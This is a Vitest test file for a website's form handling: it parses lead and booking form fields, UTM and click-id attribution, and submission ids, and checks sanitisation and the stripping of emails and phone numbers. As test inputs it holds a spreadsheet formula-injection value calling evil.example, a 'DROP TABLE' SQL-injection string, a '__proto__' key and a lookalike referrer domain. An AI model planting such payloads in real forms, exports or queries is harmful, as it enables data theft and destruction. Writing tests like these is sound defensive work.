import { describe, expect, it } from 'vitest'
import { bookingForm } from '@/lib/forms/booking-form'
import { callbackForms } from '@/lib/forms/callback-forms'
import { parseAttribution, parseFormValues, parseSubmissionMeta } from '@/lib/forms/form-data'
import { getAttribution } from '@/lib/forms/validate'
import { emptyValues } from '../../support/required-values'

const empty = emptyValues('call-our-ai')

it('reads the text fields of a form, choices without repeats, and nothing else', () => {
  const form = new FormData()
  form.append('name', 'Ana')
  form.append('name', 'Second')
  form.append('phone', new Blob(['x']), 'x.txt')
  form.append('__proto__', 'x')
  form.append('source', 'elsewhere')
  expect(parseFormValues(callbackForms['call-our-ai'], form)).toEqual({ ...empty, name: 'Ana' })
  for (const choice of ['a', 'b', 'a']) form.append('challenges', choice)
  form.append('timezone', 'Europe/Paris')
  const challenges = ['a', 'b']
  expect(parseFormValues(bookingForm, form)).toEqual({ ...emptyValues('booking'), challenges })
})

it.each([null, 'text', 7, [], { get: 'x' }])('reads %s as an empty form', (input) => {
  expect(parseFormValues(callbackForms['call-our-ai'], input)).toEqual(empty)
  expect(parseSubmissionMeta(input)).toEqual({})
})

describe('getAttribution', () => {
  it('takes campaign parameters and path of the first page, and the referrer', () => {
    const address = new URL(
      'https://px.example/book-demo?utm_source=flyer&gclid=g1&name=Ana&services=chat-agent',
    )
    expect(getAttribution(address, 'https://search.example/q')).toEqual({
      utm_source: 'flyer',
      gclid: 'g1',
      referrer: 'https://search.example/q',
      landing_path: '/book-demo',
    })
  })

  it('takes them from the referrer if the visitor left the first page before it was stored', () => {
    const address = new URL('https://px.example/book-demo')
    expect(getAttribution(address, 'https://px.example/?utm_source=flyer')).toEqual({
      utm_source: 'flyer',
      landing_path: '/',
    })
    expect(getAttribution(address, 'https://px.example.evil/?utm_source=no')).toEqual({
      referrer: 'https://px.example.evil/?utm_source=no',
      landing_path: '/book-demo',
    })
  })
})

describe('parseAttribution', () => {
  it('cleans and limits values like other text, ignores unknown entries and accepts any input', () => {
    const sent = {
      utm_source: ' fly\u0000er\u202e\n ',
      utm_term: '=IMPORTDATA("http://evil.example")',
      utm_content: 'x'.repeat(999),
      landing_path: `/${'a'.repeat(299)}😀`.slice(0, -1),
      referrer: 'https://search.example/?q=<b>',
      evil: 'y',
      fbclid: 7,
    }
    expect(parseAttribution(JSON.stringify(sent))).toEqual({
      utm_source: 'flyer',
      utm_term: `'=IMPORTDATA("http://evil.example")`,
      utm_content: 'x'.repeat(300),
      landing_path: `/${'a'.repeat(299)}`,
      referrer: 'https://search.example/?q=b',
    })
    for (const none of [undefined, null, 7, '', 'x', 'null', '[]', '{"a":"b"}'])
      expect(parseAttribution(none)).toBeUndefined()
  })

  it('limits all values together, because they are stored', () => {
    const names = [
      ...['source', 'medium', 'campaign', 'term', 'content', 'id'].map((name) => `utm_${name}`),
      ...['gclid', 'fbclid', 'msclkid'],
    ]
    const sent = Object.fromEntries(names.map((name) => [name, 'x'.repeat(300)]))
    const kept = parseAttribution(JSON.stringify(sent)) ?? {}
    expect(Object.values(kept).join('')).toHaveLength(2000)
  })

  it('keeps no campaign parameter with another name', () => {
    const names = ['utm_zz_a', 'utm_email', 'utm_source_platform', 'gclid2', '__proto__']
    expect(
      parseAttribution(JSON.stringify(Object.fromEntries(names.map((name) => [name, 'x'])))),
    ).toBe(undefined)
  })

  it.each([
    'ana@ruiz.com',
    'ana%40ruiz.com',
    'call 509-555-0147',
    '(509) 555-0147',
    '+1 509.555.0147',
    '15095550147',
  ])('drops %s from the values that are kept after the retention', (value) => {
    const sent = { utm_source: 'flyer', utm_content: value, landing_path: `/${value}` }
    expect(parseAttribution(JSON.stringify(sent))).toEqual({ utm_source: 'flyer' })
  })

  it('keeps the ids of campaigns that are no phone numbers', () => {
    const sent = { utm_campaign: '21098765432', utm_id: '2026-11', utm_term: 'plumber 24/7' }
    expect(parseAttribution(JSON.stringify(sent))).toEqual(sent)
  })
})

it('reads the attribution, and a submission id that is a UUID', () => {
  const posted = (submissionId: string) => {
    const form = new FormData()
    form.set('submissionId', submissionId)
    form.set('attribution', '{"utm_source":"flyer"}')
    return parseSubmissionMeta(form)
  }
  const id = '5f0c1c1e-0000-4000-8000-00000000000a'
  const attribution = { utm_source: 'flyer' }
  expect(posted(id.toUpperCase())).toEqual({
    submissionId: id,
    attribution,
    filledHoneypot: false,
  })
  for (const none of ['', `${id}x`, "'; DROP TABLE leads"])
    expect(posted(none)).toEqual({ attribution, filledHoneypot: false })
})
